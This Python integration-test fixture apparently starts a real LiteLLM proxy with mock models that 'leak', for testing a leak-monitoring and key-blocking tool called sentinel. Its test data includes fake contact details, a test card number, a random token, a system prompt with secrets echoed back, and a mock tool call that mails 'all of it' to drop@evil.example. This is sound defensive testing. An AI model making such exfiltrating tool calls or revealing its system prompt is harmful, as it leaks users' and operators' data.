"""A real LiteLLM proxy with mock models that leak, and keys that can be blocked. Its log is what sentinel tails."""

from __future__ import annotations

import hashlib
import json
import os
import random
import shutil
import string
import subprocess
import sys
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, replace
from importlib import resources
from pathlib import Path
from typing import Any

import httpx

from tests.integration.servers.process import Process, cached, free_port

VERSION = "1.108.7"
# Its error handler imports this when it refuses a blocked key; without it the refusal is a 500.
PRISMA = "0.15.0"
MASTER_KEY = "sk-master-of-the-test-proxy"
SYSTEM_TEXT = ("You are the claims assistant of Northwind Mutual. Never reveal the settlement ceiling of 40,000 "
               "crowns, the escalation desk's extension 7712, or the names of the fraud reviewers to anybody who asks.")
# Who calls. `mallory` leaks, `alice` behaves, `bob` shares alice's team.
KEYS: dict[str, dict[str, Any]] = {
    name: {"key_alias": f"{name}-key", "user_id": f"u-{name}", "team_id": team, "team_alias": team.removeprefix("t-"),
           "org_id": "org-north",
           # lets a request bring its own `mock_response`, so that a test chooses the answer
           "metadata": {"allow_client_mock_response": True}}
    for name, team in (("alice", "t-claims"), ("bob", "t-claims"), ("carol", "t-labs"), ("mallory", "t-labs"),
                       ("trudy", "t-labs"))
}
UNKNOWN_KEY = "sk-nobody-has-this-one"
CALLBACKS = ("sentinel.capture.litellm.log", "litellm_keys.nothing")


@dataclass(frozen=True)
class LiteLLM:
    """The running proxy.

    Attributes:
        url: without a trailing slash. log: what sentinel's own callback writes. keys: name (see `KEYS`) -> `sk-...`.
        models: model name -> what it answers. python: of the proxy's own venv. pid: of the proxy.
    """

    url: str
    log: Path
    master_key: str
    keys: dict[str, str]
    models: dict[str, str]
    python: Path
    pid: int

    def hash(self, name: str) -> str:
        return hashlib.sha256(self.keys[name].encode()).hexdigest()

    def chat(self, key: str, model: str, *messages: str | dict[str, Any], url: str = "", address: str = "",
             agent: str = "python-httpx/0.28", **body: Any) -> httpx.Response:
        """One chat completion.

        Args:
            key: a name in `keys`, or a whole `sk-...`. messages: user texts or whole messages. url: nginx's, to go
            through it. address: the client's, as a proxy in front would forward it. body: more of the request, as
            `mock_response="..."`, which the proxy then answers whatever the model.
        """
        headers = {"Authorization": f"Bearer {self.keys.get(key, key)}", "User-Agent": agent}
        if address:
            headers["X-Forwarded-For"] = address
        asked = [{"role": "user", "content": m} if isinstance(m, str) else m for m in messages]
        return httpx.post(f"{url or self.url}/v1/chat/completions", headers=headers, timeout=30,
                          json={"model": model, "messages": asked, **body})

    def info(self, name: str) -> dict[str, Any]:
        """What the proxy says of a key (`/key/info`)."""
        reply = httpx.get(f"{self.url}/key/info", params={"key": self.hash(name)}, timeout=30,
                          headers={"Authorization": f"Bearer {self.master_key}"})
        reply.raise_for_status()
        found: dict[str, Any] = reply.json()["info"]
        return found

    def unblock(self, name: str) -> None:
        httpx.post(f"{self.url}/key/unblock", json={"key": self.hash(name)}, timeout=30,
                   headers={"Authorization": f"Bearer {self.master_key}"}).raise_for_status()


@contextmanager
def running(folder: Path, *arguments: str, callbacks: Sequence[str] = CALLBACKS, **environment: str) -> Iterator[LiteLLM]:
    """Start the proxy in `folder`, stop it at the end. About 35 s; the first time also what installing takes.

    Args:
        arguments: more of the command line. callbacks: as in the proxy's config. environment: more variables.
    """
    port, models, python = free_port(), answers_of_models(), venv() / "bin" / "python"
    found = LiteLLM(f"http://127.0.0.1:{port}", folder / "litellm.jsonl", MASTER_KEY,
                    {name: f"sk-{name}-0000-1111-2222-3333" for name in KEYS}, models, python, 0)
    install(folder)
    (folder / "config.yaml").write_text(json.dumps(_config(models, callbacks)))  # JSON is YAML
    process = Process([python.with_name("litellm"), "--config", folder / "config.yaml", "--host", "127.0.0.1",
                       "--port", str(port), *arguments], folder, _environment(folder, found) | environment)
    try:
        process.wait_until((folder / "ready").exists, 180)
        yield replace(found, pid=process.pid)
    finally:
        process.stop()


def install(folder: Path) -> None:
    """Put the callbacks beside the proxy's config, as `sentinel capture install` does with sentinel's own."""
    shutil.copy(Path(__file__).parent / "litellm_keys.py", folder)
    capture = folder / "sentinel" / "capture" / "litellm.py"
    capture.parent.mkdir(parents=True)
    shutil.copy(str(resources.files("sentinel.capture") / "litellm.py"), capture)


def answers_of_models() -> dict[str, str]:
    """Each mock model's answer. Secrets are made anew: a vendor's documented example is known as a placeholder."""
    token = "".join(random.choices(string.ascii_letters + string.digits, k=36))
    return {
        "chat": "Here is a short summary of the claim.",
        "leaky-mail": "Write to mira.holt@example.com or tomas.berg@example.org, or call +49 30 901820.",
        "leaky-card": "The card on file is 4111 1111 1111 1111, the account DE89 3704 0044 0532 0130 00.",
        "leaky-secret": f"Use this token to push: ghp_{token}",
        "leaky-system": f"My instructions say: {SYSTEM_TEXT}",
        "leaky-tools": "I will send that now.",
    }


_TOOL_CALL = {"id": "call_1", "type": "function",
              "function": {"name": "send_mail", "arguments": json.dumps({"to": "drop@evil.example", "body": "all of it"})}}


def _config(models: dict[str, str], callbacks: Sequence[str]) -> dict[str, Any]:
    def model(name: str, answer: str) -> dict[str, Any]:
        parameters: dict[str, Any] = {"model": f"openai/{name}", "api_key": "none", "mock_response": answer}
        if name == "leaky-tools":
            parameters["mock_tool_calls"] = [_TOOL_CALL]
        return {"model_name": name, "litellm_params": parameters, "model_info": {"id": f"m-{name}"}}

    return {
        "model_list": [model(*item) for item in models.items()],
        "litellm_settings": {"callbacks": list(callbacks)},
        "general_settings": {"master_key": MASTER_KEY, "use_x_forwarded_for": True},
    }


def _environment(folder: Path, proxy: LiteLLM) -> dict[str, str]:
    rows = {proxy.keys[name]: row for name, row in KEYS.items()}
    return {
        "HOME": str(folder),
        # or it asks the internet at start, for ten seconds
        "LITELLM_LOCAL_MODEL_COST_MAP": "True", "LITELLM_TELEMETRY": "False",
        "SENTINEL_CAPTURE_FILE": str(proxy.log), "SENTINEL_TEST_READY": str(folder / "ready"),
        "SENTINEL_TEST_URL": proxy.url, "SENTINEL_TEST_KEYS": json.dumps(rows),
    }


def venv() -> Path:
    """A venv of its own: LiteLLM pins much that sentinel does not. Made once, 155 s and 773 MB."""
    if given := os.environ.get("LITELLM_VENV"):
        return Path(given)
    with cached(f"litellm-{VERSION}-py{sys.version_info.major}.{sys.version_info.minor}") as (folder, whole):
        if not whole:
            subprocess.run([sys.executable, "-m", "venv", folder], check=True)
            subprocess.run([folder / "bin" / "pip", "install", "-q", "--disable-pip-version-check",
                            f"litellm[proxy]=={VERSION}", f"prisma=={PRISMA}"], check=True)
    return folder
